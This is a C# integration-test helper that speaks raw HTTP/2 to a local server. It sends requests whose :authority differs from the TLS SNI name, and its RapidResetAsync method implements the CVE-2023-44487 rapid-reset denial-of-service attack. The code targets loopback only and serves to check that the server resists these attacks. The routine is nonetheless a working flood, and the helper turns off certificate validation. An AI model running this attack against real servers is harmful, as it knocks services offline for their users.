using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace Sluice.IntegrationTests.Infrastructure;

/// <summary>
/// One HTTP/2 connection over TLS with a fixed SNI name, on which each request names its own
/// <c>:authority</c>: what a browser coalescing connections (or an attacker) does, and what
/// HttpClient cannot be made to do (it picks SNI from the Host). Speaks just enough HTTP/2
/// (RFC 9113) for GET requests; header blocks are read raw, as Kestrel does not Huffman-code.
/// Also opens cleartext (h2c prior knowledge) connections, for the rapid-reset attack.
/// </summary>
internal sealed class RawHttp2Connection : IAsyncDisposable
{
    private const byte Data = 0x0, Headers = 0x1, RstStream = 0x3, Settings = 0x4, Ping = 0x6, GoAway = 0x7;
    private const byte EndStream = 0x1, EndHeaders = 0x4, Ack = 0x1;

    private readonly Stream _tls;
    private int _nextStream = 1;

    private RawHttp2Connection(Stream tls) => _tls = tls;

    /// <summary>HTTP/2 with prior knowledge on a cleartext port (no TLS, no ALPN).</summary>
    public static async Task<RawHttp2Connection> OpenCleartextAsync(int port)
    {
        var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(IPAddress.Loopback, port);
        var connection = new RawHttp2Connection(new NetworkStream(socket, ownsSocket: true));
        await connection._tls.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
        await connection.WriteFrameAsync(Settings, 0, 0, []);
        return connection;
    }

    /// <summary>
    /// CVE-2023-44487: opens <paramref name="streams"/> requests and resets each at once, never
    /// reading, as fast as the socket takes them. Returns when all are written or the server
    /// closed the connection.
    /// </summary>
    public async Task RapidResetAsync(string authority, string path, int streams)
    {
        var block = new List<byte> { 0x82, 0x86 }; // :method GET, :scheme http (static table)
        AddLiteral(block, 4, path);
        AddLiteral(block, 1, authority);
        var headers = block.ToArray();
        var cancel = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(cancel, 0x8); // CANCEL
        try
        {
            for (var i = 0; i < streams; i++)
            {
                var stream = _nextStream;
                _nextStream += 2;
                await WriteFrameAsync(Headers, EndStream | EndHeaders, stream, headers);
                await WriteFrameAsync(RstStream, 0, stream, cancel);
            }
        }
        catch (IOException)
        {
            // The server had enough and closed the connection: that is one of the right answers.
        }
    }

    public static async Task<RawHttp2Connection> OpenAsync(int port, string serverName)
    {
        var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(IPAddress.Loopback, port);
        var tls = new SslStream(new NetworkStream(socket, ownsSocket: true));
        await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
        {
            TargetHost = serverName,
            ApplicationProtocols = [SslApplicationProtocol.Http2],
            // The certificate is not what these tests are about.
            RemoteCertificateValidationCallback = (_, _, _, _) => true,
        });
        var connection = new RawHttp2Connection(tls);
        await tls.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
        await connection.WriteFrameAsync(Settings, 0, 0, []);
        return connection;
    }

    /// <summary>Sends GET <paramref name="path"/> for <paramref name="authority"/>; returns the raw response header block and the body.</summary>
    public async Task<(string HeaderBlock, string Body)> GetAsync(string authority, string path = "/")
    {
        var stream = _nextStream;
        _nextStream += 2;
        var block = new List<byte> { 0x82, 0x87 }; // :method GET, :scheme https (static table)
        AddLiteral(block, 4, path);                 // :path
        AddLiteral(block, 1, authority);            // :authority
        await WriteFrameAsync(Headers, EndStream | EndHeaders, stream, block.ToArray());

        var headers = new StringBuilder();
        var body = new StringBuilder();
        while (true)
        {
            var (type, flags, id, payload) = await ReadFrameAsync();
            if (type == Settings && (flags & Ack) == 0)
            {
                await WriteFrameAsync(Settings, Ack, 0, []);
            }
            else if (type == GoAway)
            {
                throw new IOException("the server closed the connection (GOAWAY)");
            }
            else if (id == stream && type is Headers or Data)
            {
                (type == Headers ? headers : body).Append(Encoding.Latin1.GetString(payload));
                if ((flags & EndStream) != 0)
                {
                    return (headers.ToString(), body.ToString());
                }
            }
            else if (type == Ping && (flags & Ack) == 0)
            {
                await WriteFrameAsync(Ping, Ack, 0, payload);
            }
        }
    }

    /// <summary>Literal header field without indexing, name from the static table, value not Huffman-coded.</summary>
    private static void AddLiteral(List<byte> block, byte nameIndex, string value)
    {
        var bytes = Encoding.ASCII.GetBytes(value);
        block.Add(nameIndex);
        block.Add((byte)bytes.Length); // short values only: under 127 bytes
        block.AddRange(bytes);
    }

    private async Task WriteFrameAsync(byte type, int flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[0] = (byte)(payload.Length >> 16);
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = (byte)flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        await _tls.WriteAsync(frame);
        await _tls.FlushAsync();
    }

    private async Task<(byte Type, byte Flags, int Stream, byte[] Payload)> ReadFrameAsync()
    {
        var header = new byte[9];
        await _tls.ReadExactlyAsync(header);
        var length = (header[0] << 16) | (header[1] << 8) | header[2];
        var payload = new byte[length];
        await _tls.ReadExactlyAsync(payload);
        return (header[3], header[4], BinaryPrimitives.ReadInt32BigEndian(header.AsSpan(5)) & 0x7fffffff, payload);
    }

    public ValueTask DisposeAsync() => _tls.DisposeAsync();
}
